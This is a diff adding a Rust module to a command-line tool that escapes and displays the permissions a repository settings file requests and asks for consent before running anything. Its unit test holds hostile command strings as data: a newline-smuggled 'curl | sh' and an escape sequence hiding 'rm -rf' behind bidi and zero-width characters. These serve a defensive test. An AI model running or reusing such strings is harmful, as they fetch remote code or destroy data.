@@ -1,0 +1,140 @@
+//! What a repository's own settings file asks for, in words that hide nothing, and the question that
+//! `loop` and `resume` ask before they run any of it.
+
+use std::io::IsTerminal as _;
+
+use crate::console::context::Context;
+use crate::console::output::{self, ask};
+use crate::ui::page::Page;
+use crate::ui::style::{DIM, STRONG};
+use crate::ui::words::{Count, Noun};
+use ralph_run::failure::Failure;
+use ralph_run::settings::files::RepositoryFile;
+use ralph_run::settings::trust::Claim;
+use ralph_vault::store::state_directory;
+
+/// Writes what a file asks for.
+pub(crate) fn write_claims(page: &mut Page, file: &str, claims: &[Claim]) {
+    let head = format!("{}:", heading(file, claims));
+    page.styled(STRONG, head);
+    page.blank();
+    for claim in claims {
+        let place = page.paint(DIM, format!("line {}:", claim.line));
+        page.line(format!("  {place} {}", text(claim)));
+    }
+    page.blank();
+}
+
+/// What is said before the list.
+pub(crate) fn heading(file: &str, claims: &[Claim]) -> String {
+    let file = visible(file);
+    format!(
+        "`{file}` asks for {}",
+        Count(claims.len(), Noun::Permission)
+    )
+}
+
+/// What is asked after the list.
+pub(crate) const QUESTION: &str = "\
+It may have come with a clone, or an agent may have changed it.
+ralphtool remembers a yes until the file changes.
+Allow this? [y/N] ";
+
+/// The lines of a message or a box.
+pub(crate) fn lines(claims: &[Claim]) -> Vec<String> {
+    let line = |claim: &Claim| format!("line {}: {}", claim.line, text(claim));
+    claims.iter().map(line).collect()
+}
+
+fn text(claim: &Claim) -> String {
+    format!("{}: {}", visible(&claim.does), visible(&claim.what))
+}
+
+/// A text with everything that a terminal would not show as a character of its own written out.
+/// Leaving it out, as elsewhere, could hide a command inside of an escape sequence.
+fn visible(text: &str) -> String {
+    let mut shown = String::with_capacity(text.len());
+    for c in text.chars() {
+        match c {
+            '\\' | '"' | '\'' => shown.push(c),
+            _ => shown.extend(c.escape_debug()),
+        }
+    }
+    shown
+}
+
+/// Whether there is a terminal to ask on.
+pub(crate) fn can_ask() -> bool {
+    std::io::stdin().is_terminal() && std::io::stdout().is_terminal()
+}
+
+/// Shows what a file asks for, asks the user, and remembers a yes; anything else is a refusal.
+pub(crate) fn ask_for(file: &RepositoryFile, context: &Context) -> Result<(), Failure> {
+    output::page(context, |page| {
+        write_claims(page, &file.name, &file.claims);
+    })?;
+    must_be_yes()?;
+    give(file, context)
+}
+
+/// Remembers that the user has allowed this very content.
+pub(crate) fn give(file: &RepositoryFile, context: &Context) -> Result<(), Failure> {
+    let state = state_directory(&context.environment)?;
+    let given = file.allowance.give(&state);
+    given.map_err(|error| Failure::system("could not remember the permission").because(error))
+}
+
+/// The refusal where the user cannot be asked.
+pub(crate) fn refusal(file: &RepositoryFile, context: &Context) -> Failure {
+    let heading = heading(&file.name, &file.claims);
+    let lines = lines(&file.claims).join("\n");
+    Failure::refused(format!("{heading} that you have not given\n{lines}"))
+        .hint(format!(
+            "to read and allow them, run `{}`",
+            context.typed("trust")
+        ))
+        .hint("to allow them for one run only, add `--trust` or set `RALPHTOOL_TRUST=1`")
+}
+
+/// What is said where nothing is run.
+pub(crate) fn warning(file: &RepositoryFile) -> String {
+    let heading = heading(&file.name, &file.claims);
+    format!("{heading} that you have not given; a run asks first")
+}
+
+pub(crate) fn must_be_yes() -> Result<(), Failure> {
+    match ask(QUESTION)?.as_deref() {
+        Some("y" | "yes") => Ok(()),
+        _ => Err(Failure::refused("not allowed: nothing was run")),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::ui::style::Paint;
+    use pretty_assertions::assert_eq;
+
+    #[test]
+    fn nothing_of_a_command_is_hidden() {
+        let claim = |line, does: &str, what: &str| Claim {
+            line,
+            does: does.to_owned(),
+            what: what.to_owned(),
+        };
+        let claims = [
+            claim(3, "a gate runs", "true # \ncurl \"x\" | sh"),
+            claim(
+                9,
+                "a gate runs",
+                "\u{1b}]0;rm -rf '~'\u{7}\u{202e}\u{200b}ü",
+            ),
+        ];
+        let mut page = Page::new(Paint::Plain);
+        write_claims(&mut page, "ralphtool.toml", &claims);
+        let want = "`ralphtool.toml` asks for 2 permissions:\n\n  \
+                    line 3: a gate runs: true # \\ncurl \"x\" | sh\n  \
+                    line 9: a gate runs: \\u{1b}]0;rm -rf '~'\\u{7}\\u{202e}\\u{200b}ü\n\n";
+        assert_eq!(page.text, want);
+    }
+}
